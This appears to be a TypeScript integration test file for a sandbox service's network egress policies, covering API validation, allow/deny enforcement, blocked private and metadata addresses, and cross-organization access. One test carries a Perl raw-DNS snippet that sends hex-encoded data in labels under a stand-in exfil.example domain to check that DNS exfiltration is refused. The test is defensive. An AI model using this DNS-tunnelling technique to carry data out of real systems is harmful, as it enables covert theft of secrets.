import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { aptSourceUrls } from './harness.js';
import { api, createSandbox, run, startAgentServer, stopServer, type CreatedSandbox, type TestServer } from './agent-support.js';

// Egress policies through the real daemon: the API (create, GET, PUT, validation, states, other
// organizations) and enforcement by name through the host's real resolver, against the host's apt
// source (the one server every test machine reaches). runtime/egress-rules.test.ts tests the rules
// in depth against web servers of its own.

let server: TestServer;
/** perl -e this NAME TYPE: one query to the sandbox's first nameserver; prints its rcode, or 'timeout'. */
const DNS_QUERY = `
use IO::Socket::INET; use IO::Select;
my ($name, $type) = @ARGV;
open(my $f, '<', '/etc/resolv.conf') or die; my ($ns) = map { /^\\s*nameserver\\s+(\\d+\\.\\d+\\.\\d+\\.\\d+)/ ? $1 : () } <$f>;
my $q = pack('n6', 7, 0x0100, 1, 0, 0, 0) . join('', map { chr(length $_) . $_ } split /\\./, $name) . "\\0" . pack('n2', $type, 1);
my $s = IO::Socket::INET->new(PeerAddr => $ns, PeerPort => 53, Proto => 'udp') or die "socket: $!";
send($s, $q, 0);
my $r;
if (IO::Select->new($s)->can_read(5) && recv($s, $r, 4096, 0) && length $r >= 4) { print 'rcode=' . ((unpack('n2', $r))[1] & 15) . "\\n" } else { print "timeout\\n" }
`;
const policyOf = async (id: string) => (await api(server, 'GET', `/v1/sandboxes/${id}/network`)).body;
const put = (id: string, body: unknown) => api(server, 'PUT', `/v1/sandboxes/${id}/network`, body);

/** curl's HTTP status from inside (000 when refused), and how long it took. */
async function statusIn(sb: CreatedSandbox, url: string, extra: string[] = []): Promise<{ status: string; ms: number }> {
  const t0 = performance.now();
  const r = await run(sb, 'curl', ['-sS', '-o', '/dev/null', '-m', '8', '-w', '%{http_code}', ...extra, url]);
  return { status: String(r.stdout).trim(), ms: performance.now() - t0 };
}

before(async () => {
  server = await startAgentServer({ templates: ['base'] });
});
after(async () => {
  await stopServer(server);
});

describe('egress policy through the API', () => {
  test('create with lists: normalized, shown on the sandbox and at /network; PUT replaces; bad entries are 400s naming the entry', async () => {
    const sb = await createSandbox(server, { template_name: 'base', allow_out: ['Example.COM.', '*.Example.org', '10.1.2.3/8', '1.2.3.4'], deny_out: ['bad.example.com'] });
    const expected = { internet_access: true, allow_out: ['example.com', '*.example.org', '10.0.0.0/8', '1.2.3.4'], deny_out: ['bad.example.com'] };
    const got = await api(server, 'GET', `/v1/sandboxes/${sb.id}`);
    assert.deepEqual(got.body.network, expected);
    assert.equal(got.body.internet_access, true);
    const p = await policyOf(sb.id);
    assert.deepEqual({ ...p, request_id: undefined }, { ...expected, request_id: undefined });

    const replaced = await put(sb.id, { deny_out: ['192.0.2.0/24'] });
    assert.equal(replaced.status, 200, JSON.stringify(replaced.body));
    assert.deepEqual({ ...replaced.body, request_id: undefined }, { internet_access: true, allow_out: [], deny_out: ['192.0.2.0/24'], request_id: undefined });
    const off = await put(sb.id, { internet_access: false });
    assert.equal(off.body.internet_access, false);
    assert.equal((await api(server, 'GET', `/v1/sandboxes/${sb.id}`)).body.internet_access, false);

    for (const [entry, why] of [
      ['2001:db8::1', /IPv6/],
      ['*bad.example', /not a domain/],
      ['a..b', /not a domain/],
      ['300.1.2.3', /not an IPv4/],
      ['10.0.0.0/33', /not an IPv4/],
      ['exa mple.com', /not a domain/],
      ['example.com:443', /port/],
      ['', /.+/],
    ] as const) {
      const r = await put(sb.id, { allow_out: [entry] });
      assert.equal(r.status, 400, `${entry}: ${JSON.stringify(r.body)}`);
      assert.match(JSON.stringify(r.body), why);
    }
    assert.equal((await put(sb.id, { allow_out: 'example.com' })).status, 400, 'not a list');
    assert.equal((await put(sb.id, { allow_out: Array.from({ length: 1001 }, (_, i) => `h${i}.example.com`) })).status, 400, 'too many');
    assert.equal((await put(sb.id, { allow_out: [], extra: 1 })).status, 400, 'unknown field');
    assert.equal((await api(server, 'POST', '/v1/sandboxes', { template_name: 'base', allow_out: ['*.*.example'] })).status, 400);
    assert.equal((await api(server, 'POST', '/v1/sandboxes', { template_name: 'base', internet_access: false, allow_out: ['example.com'] })).status, 400);
    // The failed calls changed nothing.
    assert.equal((await policyOf(sb.id)).internet_access, false);
    assert.equal((await api(server, 'GET', '/v1/sandboxes/sbnonexistent00000000/network')).status, 404);
  });

  test('a sandbox created without internet has no network to give: 409, unless it asks for none', async () => {
    const sb = await createSandbox(server, { template_name: 'base', internet_access: false });
    assert.deepEqual((await policyOf(sb.id)).internet_access, false);
    const r = await put(sb.id, { internet_access: true });
    assert.equal(r.status, 409);
    assert.equal(r.body.code, 'INVALID_STATE');
    assert.match(r.body.message, /created with internet_access false/);
    assert.equal((await put(sb.id, { allow_out: ['example.com'] })).status, 409);
    assert.equal((await put(sb.id, { internet_access: false })).status, 200);
  });

  test("enforced by name through the host's resolver: the apt source by its name, not by its address under another name; counted; kept across stop and start", async () => {
    const url = aptSourceUrls()[0]!;
    const name = new URL(url).hostname;
    const sb = await createSandbox(server, { template_name: 'base', allow_out: [name] });
    const ok = await statusIn(sb, `${url}/dists/`);
    assert.notEqual(ok.status, '000', 'the allowed name answers');
    // The same address under a name that is not allowed: refused at once.
    const address = (await run(sb, 'getent', ['ahostsv4', name])).stdout.trim().split(/\s+/)[0];
    assert.match(address, /^\d+\.\d+\.\d+\.\d+$/);
    const other = await statusIn(sb, `http://${address}/`, ['-H', 'Host: not-allowed.example']);
    assert.equal(other.status, '000');
    assert.ok(other.ms < 3000, `refused fast (${Math.round(other.ms)} ms)`);
    // Another public address, by address: refused (nothing but the name is allowed).
    assert.equal((await statusIn(sb, 'http://11.22.33.44/')).status, '000');
    const m = await api(server, 'GET', `/v1/sandboxes/${sb.id}/metrics`);
    assert.ok(m.body.egress_denied >= 2, `refusals counted: ${JSON.stringify(m.body)}`);

    assert.equal((await api(server, 'POST', `/v1/sandboxes/${sb.id}/stop`)).status, 200);
    assert.equal((await put(sb.id, { deny_out: [name] })).status, 200, 'a stopped sandbox takes a policy too');
    assert.equal((await api(server, 'POST', `/v1/sandboxes/${sb.id}/start`)).status, 200);
    assert.equal((await statusIn(sb, `${url}/dists/`)).status, '000', 'denied by name after the start');
    assert.equal((await put(sb.id, {})).status, 200);
    assert.notEqual((await statusIn(sb, `${url}/dists/`)).status, '000', 'open again at once');
  });

  test("DNS under an allow list: the allowed name resolves, others do not, and a query that would carry data out is refused by the daemon's filter", async () => {
    const name = new URL(aptSourceUrls()[0]!).hostname;
    const sb = await createSandbox(server, { template_name: 'base', allow_out: [name] });
    const ok = await run(sb, 'getent', ['hosts', name]);
    assert.equal(ok.exit_code, 0, JSON.stringify(ok));
    assert.match(String(ok.stdout), new RegExp(`^\\S+\\s+${name.replace(/\./g, '\\.')}`, 'm'));
    const t0 = performance.now();
    const no = await run(sb, 'getent', ['hosts', 'something-else.example']);
    const noMs = performance.now() - t0;
    assert.notEqual(no.exit_code, 0);
    assert.equal(String(no.stdout).trim(), '');
    assert.ok(noMs < 3000, `refused at once, not a timeout (${Math.round(noMs)} ms)`);
    // The exfiltration: data in the labels of a name under a domain the sandbox's owner would
    // control, sent straight to the resolver the sandbox is given. The filter answers REFUSED
    // itself (a resolver that asked upstream would say NXDOMAIN), and counts it.
    const before = (await api(server, 'GET', `/v1/sandboxes/${sb.id}/metrics`)).body.egress_denied as number;
    const r = await run(sb, 'perl', ['-e', DNS_QUERY, `${Buffer.from('secret-data').toString('hex')}.exfil.example`, '16']);
    assert.equal(String(r.stdout).trim(), 'rcode=5', JSON.stringify(r));
    const after = (await api(server, 'GET', `/v1/sandboxes/${sb.id}/metrics`)).body.egress_denied as number;
    assert.ok(after >= before + 1, `the refusal is counted (${before} -> ${after})`);
    // The allowed name, by the same client: answered by the resolver through the filter.
    assert.equal(String((await run(sb, 'perl', ['-e', DNS_QUERY, name, '1'])).stdout).trim(), 'rcode=0');
  });

  test('with domain rules, a connection to a blocked range or an unlisted address on 80/443 is refused at once, not left to time out', async () => {
    const name = new URL(aptSourceUrls()[0]!).hostname;
    const sb = await createSandbox(server, { template_name: 'base', allow_out: [name] });
    for (const url of ['http://10.1.2.3/', 'https://169.254.169.254/', 'http://203.0.113.5/', 'https://192.168.77.1/', 'http://203.0.113.5:8080/']) {
      const r = await statusIn(sb, url);
      assert.equal(r.status, '000', url);
      assert.ok(r.ms < 3000, `${url} refused at once (${Math.round(r.ms)} ms), not after curl's 8 s`);
    }
  });

  test("another organization's sandbox: its network is neither shown nor changed", async () => {
    const sb = await createSandbox(server, { template_name: 'base' });
    const org = await api(server, 'POST', '/v1/admin/orgs', { name: 'egress-other' });
    assert.equal(org.status, 201, JSON.stringify(org.body));
    const key = await api(server, 'POST', '/v1/admin/keys', { org: 'egress-other', name: 'k' });
    assert.equal(key.status, 201, JSON.stringify(key.body));
    const other = { baseUrl: server.baseUrl, apiKey: key.body.secret as string };
    assert.equal((await api(other, 'GET', `/v1/sandboxes/${sb.id}/network`)).status, 403);
    assert.equal((await api(other, 'PUT', `/v1/sandboxes/${sb.id}/network`, { internet_access: false })).status, 403);
    assert.equal((await policyOf(sb.id)).internet_access, true);
  });
});
